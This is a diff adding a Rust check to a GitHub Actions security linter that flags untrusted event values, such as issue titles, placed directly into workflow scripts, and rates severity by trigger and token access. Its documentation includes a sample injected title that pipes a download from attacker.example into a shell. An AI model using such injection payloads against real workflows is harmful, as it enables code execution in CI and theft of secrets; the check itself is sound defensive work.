@@ -1,0 +1,198 @@
+//! `untrusted-input-in-script`: an expression puts what others write into a script, before a shell reads it.
+
+use crate::engine::repository::context::Writer;
+use crate::engine::repository::flow::Flow;
+use crate::engine::repository::trust::Trust;
+use crate::engine::repository::{Repository, Site, context};
+use crate::engine::{Check, Reports, Run};
+use crate::model::{Confidence, Family, Meta, Preset, Severity, Span};
+use crate::parse::workflow::Text;
+use crate::parse::workflow::expression::Expression;
+
+/// The check.
+pub(crate) static CHECK: Check = Check {
+    meta: Meta {
+        id: "untrusted-input-in-script",
+        title: "script that holds what others write",
+        severity: Severity::Medium,
+        confidence: Confidence::High,
+        family: Family::Workflow,
+        remedy: "give the value to the script through `env:`, and write `\"$NAME\"` in the script: then the shell does not read it as commands",
+        docs: r#"
+## What it does
+Follows what others write into the scripts of workflows and composite actions: `run`, the `script` of
+`actions/github-script`, and the inputs of well-known actions that are run as code. A value is followed through
+`env`, the outputs of steps and jobs, the matrix, the inputs of local actions and of local reusable workflows.
+
+The severity says what the writer gets:
+
+- `critical`: anyone starts the job, and it holds a secret or a token that may write;
+- `high`: anyone starts it, and the repository's settings decide what its token may do;
+- `medium`: anyone starts it but gets at nothing (a pull request from a fork), a condition keeps strangers out, or
+  only those can write the value who may write to the repository, start a run, or call the action.
+
+The message names what starts the job, the value and what is within reach; the places in between are listed.
+
+## Why is this bad
+GitHub puts the value of `${{ … }}` into the text of the script before the shell starts. A title such as
+`a"; curl attacker.example | sh; "` is then three commands. It was the way into the attacks on Ultralytics (2024) and
+Nx (2025).
+
+## Example
+```yaml
+on: issues
+jobs:
+  triage:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "${{ github.event.issue.title }}"
+```
+
+## Use instead
+```yaml
+on: issues
+jobs:
+  triage:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "$TITLE"
+        env:
+          TITLE: ${{ github.event.issue.title }}
+```
+
+## Known problems
+What an action does with its inputs is not known, but for those in a list. Outputs of actions of others are taken
+for harmless, but for those that are known to hold names of files, branches or comments. Numbers, commit ids, names
+of users (letters, digits and hyphens) and choices between constants are harmless.
+
+## References
+- <https://docs.github.com/en/actions/concepts/security/script-injections>
+"#,
+    },
+    run: Run::Repository { preset: Preset::Default, whole: false, run },
+};
+
+/// Inputs of actions that are run as a script.
+const SCRIPTS: [(&str, &[&str]); 18] = [
+    ("actions/github-script", &["script"]),
+    ("azure/cli", &["inlineScript"]),
+    ("azure/powershell", &["inlineScript"]),
+    ("appleboy/ssh-action", &["script"]),
+    ("amadevus/pwsh-script", &["script"]),
+    ("jannekem/run-python-script-action", &["script"]),
+    ("cardinalby/js-eval-action", &["expression"]),
+    ("addnab/docker-run-action", &["run", "options"]),
+    ("gautamkrishnar/keepalive-workflow", &["commit_message"]),
+    ("lannonbr/repo-permission-check-action", &["permission"]),
+    ("mikefarah/yq", &["cmd"]),
+    ("nick-fields/retry", &["command", "on_retry_command", "new_command_on_retry"]),
+    ("nick-invision/retry", &["command", "on_retry_command"]),
+    ("reactivecircus/android-emulator-runner", &["script", "pre-emulator-launch-script"]),
+    ("ruby/ruby-wasm", &["run"]),
+    ("shivammathur/setup-php", &["ini-values"]),
+    ("skitionek/notify-microsoft-teams", &["raw"]),
+    ("cross-platform-actions/action", &["run"]),
+];
+
+/// True for programs that run their last argument as a script, as `shell` of a step may name any.
+fn run(repository: &Repository, reports: &mut Reports<'_>) {
+    for site in repository.steps() {
+        let Some(step) = site.step else { continue };
+        for script in scripts(step) {
+            for expression in script.expressions() {
+                judge(repository, site, script, &expression, reports);
+            }
+        }
+    }
+}
+
+/// The texts of `step` that are run as scripts.
+fn scripts(step: &crate::parse::workflow::Step) -> impl Iterator<Item = &Text> {
+    let inputs = SCRIPTS.iter().filter(|(action, _)| step.uses_any(&[action]));
+    let given = inputs.flat_map(|(_, names)| names.iter().filter_map(|name| step.input(name)));
+    step.run.iter().chain(given)
+}
+
+fn judge(
+    repository: &Repository,
+    site: Site<'_>,
+    script: &Text,
+    expression: &Expression<'_>,
+    reports: &mut Reports<'_>,
+) {
+    let flows = repository.flows(site, expression);
+    let Some(flow) = flows.iter().max_by_key(|flow| (flow.writer, std::cmp::Reverse(flow.trail.len())))
+    else {
+        return;
+    };
+    let trust = repository.trust(site);
+    let is_run = site.step.is_some_and(|step| step.run.as_ref().is_some_and(|run| std::ptr::eq(run, script)));
+    let what = if is_run { "this script" } else { "this input, which is run as a script" };
+    let Rated { severity, confidence, how } = rate(flow, &trust);
+    let span = if expression.span.is_empty() {
+        Span::new(script.span.start, script.span.end)
+    } else {
+        expression.span
+    };
+    let message = format!("`{}` is put into {what} as it is: {how}", flow.context);
+    let reported = reports.at(site, span, message);
+    reported.severity(severity).confidence(confidence);
+    for start in
+        trust.privileged.iter().chain(&trust.forks).take(1).filter(|_| flow.writer == Writer::Stranger)
+    {
+        let note = format!("`{}` starts it", start.event.name.text);
+        reported.trace(start.file, start.event.name.span, note);
+    }
+    for hop in &flow.trail {
+        reported.trace(hop.file, hop.span, hop.note.clone());
+    }
+}
+
+struct Rated {
+    severity: Severity,
+    confidence: Confidence,
+    how: String,
+}
+
+/// What the writer of the value gets, by who starts the job.
+fn rate(flow: &Flow<'_>, trust: &Trust<'_>) -> Rated {
+    let medium = |how: String| Rated { severity: Severity::Medium, confidence: Confidence::High, how };
+    match flow.writer {
+        Writer::Caller => medium("whoever calls it writes commands with it".to_owned()),
+        Writer::Member => {
+            medium("whoever may write to the repository, or start a run, writes commands with it".to_owned())
+        }
+        Writer::Stranger => {
+            let known = context::events(&flow.context);
+            let fits = |name: &str| known.is_empty() || known.contains(&name);
+            let privileged = trust.privileged.iter().find(|start| fits(&start.event.name.text));
+            if let Some(start) = privileged {
+                let event = &start.event.name.text;
+                let reach = trust.reach();
+                if trust.guard.is_some() {
+                    let how =
+                        format!("`{event}` starts it with {reach}, and a condition keeps strangers out");
+                    return Rated { confidence: Confidence::Medium, ..medium(how) };
+                }
+                let severity = match trust.is_exposed() {
+                    true if trust.token == crate::engine::repository::trust::Token::Default
+                        && trust.secrets.is_empty() =>
+                    {
+                        Severity::High
+                    }
+                    true => Severity::Critical,
+                    false => Severity::Medium,
+                };
+                let how = format!("anyone writes commands with it through `{event}`, and gets {reach}");
+                return Rated { severity, confidence: Confidence::High, how };
+            }
+            if let Some(start) = trust.forks.iter().find(|start| fits(&start.event.name.text)) {
+                let event = &start.event.name.text;
+                return medium(format!(
+                    "anyone writes commands with it through `{event}` from a fork, without secrets and with a token that only reads"
+                ));
+            }
+            medium("whoever has a change taken writes commands with it".to_owned())
+        }
+    }
+}
